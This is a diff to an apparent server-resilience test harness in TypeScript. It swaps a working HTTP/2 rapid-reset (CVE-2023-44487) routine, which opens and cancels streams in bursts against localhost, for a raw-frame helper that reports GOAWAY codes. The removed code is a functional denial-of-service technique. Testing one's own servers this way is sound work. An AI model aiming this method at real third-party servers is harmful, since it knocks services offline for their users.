@@ -8,10 +8,10 @@
  * - loops (oversized headers, too many header fields, HTTP/2 rapid reset, TLS renegotiation): `workers` loops,
  *   each repeating its misdeed on a fresh connection until stopped; the report counts the outcomes.
  */
-import { connect as http2Connect, constants as h2, type ClientHttp2Session } from 'node:http2';
 import { connect as netConnect, type Socket } from 'node:net';
 import { performance } from 'node:perf_hooks';
 import { connect as tlsConnect, type TLSSocket } from 'node:tls';
+import { errorCodeName, rapidResetFrames } from './rapid-reset-frames.js';
 import { LatencyRecorder, summarize } from './stats.js';
 
 export interface AttackTarget {
@@ -264,52 +264,22 @@ export function manyHeaderFields(workers: number, fields: number): Attack {
   });
 }
 
-/** Opens and cancels streams in bursts on one HTTP/2 session until the server ends it (CVE-2023-44487). */
-function rapidResetSession(target: AttackTarget, streamsPerSession: number): Promise<string> {
-  return new Promise((resolve) => {
-    const session: ClientHttp2Session = http2Connect(`https://localhost:${target.port}`, {
-      ca: target.ca,
-      servername: 'localhost',
-      // Connect to the loopback address, whatever localhost resolves to.
-      createConnection: () => tlsConnect(tlsOptions(target, ['h2'])),
-    });
-    let sent = 0;
-    let goaway = false;
-    session.on('error', () => undefined);
-    session.once('goaway', () => (goaway = true));
-    let gaveUp = false;
-    const timer = setTimeout(() => {
-      gaveUp = true;
-      session.destroy();
-    }, 10_000);
-    session.once('close', () => {
-      clearTimeout(timer);
-      // Bucketed by hundreds of streams sent before the end.
-      const after = `after at most ${Math.ceil(sent / 100) * 100} streams`;
-      if (goaway) resolve(`session ended by the server with GOAWAY ${after}`);
-      else if (gaveUp) resolve(`session still open after 10 s, ${after}; closed by the attacker`);
-      else if (sent >= streamsPerSession) resolve(`all ${streamsPerSession} streams sent, session kept open by the server`);
-      else resolve(`session closed by the server ${after}`);
-    });
-    session.once('connect', () => {
-      const burst = () => {
-        for (let i = 0; i < 100 && sent < streamsPerSession; i++) {
-          if (session.closed || session.destroyed) return;
-          try {
-            const stream = session.request({ ':method': 'GET', ':path': '/ping' });
-            stream.on('error', () => undefined);
-            stream.close(h2.NGHTTP2_CANCEL);
-            sent += 1;
-          } catch {
-            return;
-          }
-        }
-        if (sent < streamsPerSession) setImmediate(burst);
-        else session.close();
-      };
-      burst();
-    });
-  });
+/**
+ * One HTTP/2 session opening and cancelling up to `streamsPerSession` streams in bursts of 100 (raw frames:
+ * rapid-reset-frames.ts), held until the server closes it or 10 s pass; names the server's GOAWAY code and how
+ * many streams had been sent when it came.
+ */
+async function rapidResetSession(target: AttackTarget, streamsPerSession: number): Promise<string> {
+  const outcome = await rapidResetFrames(target, { streams: streamsPerSession, timeoutMs: 10_000, untilClose: true });
+  // Bucketed by hundreds of streams sent.
+  const atMost = (sent: number) => `at most ${Math.ceil(sent / 100) * 100} streams`;
+  const goaway =
+    outcome.goawayCode === undefined
+      ? 'no GOAWAY'
+      : `GOAWAY ${errorCodeName(outcome.goawayCode)} after ${atMost(outcome.sentAtGoaway ?? outcome.sentAtEnd)}`;
+  return outcome.closedByServer
+    ? `${goaway}, connection closed by the server`
+    : `${goaway}, connection still open after 10 s (${atMost(outcome.sentAtEnd)} sent); closed by the attacker`;
 }
 
 export function rapidReset(workers: number, streamsPerSession: number): Attack {
